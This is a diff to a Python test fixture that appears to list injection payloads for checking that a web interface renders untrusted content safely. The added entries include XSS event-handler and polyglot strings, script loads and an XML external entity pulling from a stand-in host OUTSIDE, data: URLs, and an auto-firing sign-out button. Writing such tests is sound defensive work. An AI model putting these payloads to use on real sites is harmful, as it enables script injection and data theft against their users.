@@ -1,6 +1,8 @@
 """What content can hold to reach whoever looks at it: markup, addresses, hidden characters, odd numbers.
 
-Each that could do something does it to `window.stolen` or asks `OUTSIDE`; both are looked at.
+Each that could do something does it to `window.stolen` or asks `OUTSIDE`; both are looked at. Content holds all of
+them; labels, purposes and what is searched for hold those that are `TYPED`; ids of runs, exchanges, attempts, sessions
+and sources can hold no markup, and are the `IDS`.
 """
 
 from typing import Final
@@ -35,7 +37,26 @@ INPUTS: Final[dict[str, str]] = {
     "name-of-the-page": '<img name="getElementById"><form id="said" name="keys"><input name="body"></form>',
     "unseen": "pass\u200bword\u2060\ufeff\u00ad \u2066hidden\u2069 \U000e0041\U000e0042 nul:\x00 bell:\x07",
     "long": "unbroken" * 600,
+    "remote-script": f'<script src="{OUTSIDE}/h.js"></script><script type="module">import "{OUTSIDE}/i.js"</script>',
+    "shadow": f'<div><template shadowrootmode="open"><script>{_GO}</script><slot></slot></template></div>',
+    "opens-by-itself": f'<details open ontoggle="{_GO}"><summary>x</summary></details><dialog open>x</dialog>',
+    "focus": f'<input autofocus onfocus="{_GO}"><a id=x tabindex=1 onfocusin="{_GO}">x</a>',
+    "animation": f'<svg><animate attributeName=href onbegin="{_GO}"/><use href="{OUTSIDE}/j"/></svg>',
+    "entities": "&lt;script&gt;window.stolen=1&lt;/script&gt;&#60;img src=x onerror=window.stolen=1&#62;",
+    "many-in-one": f"jaVasCript:/*--></title></style></textarea></script><svg/onload='+/\"/+/[*/[]/+{_GO}//'>",
+    "address-of-data": f"[x](data:text/html,<script>{_GO}</script>)",
+    "reference-of-markdown": f"[x]: {OUTSIDE}/k 'title'\n![y][x] <{OUTSIDE}/l> {OUTSIDE}/m",
+    "frame-of-frames": f'<frameset onload="{_GO}"><frame src="javascript:{_GO}"></frameset><portal src="{OUTSIDE}">',
+    "stylesheet-of-xml": f'<?xml-stylesheet href="{OUTSIDE}/n.xsl"?><!DOCTYPE x [<!ENTITY e SYSTEM "{OUTSIDE}/o">]>&e;',
+    "attributes-of-ours": f'<button hx-post="/sign-out" hx-trigger="load" data-copy="{_GO}" data-next>x</button>',
+    "ends-of-attributes": f"'\"`><script>{_GO}</script> onmouseover={_GO} \u2028{_GO}",
 }
+_MOST_TYPED: Final = 200
+TYPED: Final = {
+    name: text for name, text in INPUTS.items() if text.isprintable() and len(text) <= _MOST_TYPED
+}
+# Each is an id that the store takes, and a word that means something elsewhere.
+IDS: Final = ("javascript:alert-1", "data:text-html", "constructor", "hasOwnProperty", "0" * 128)
 
 
 def output_of(text: str) -> dict[str, object]:
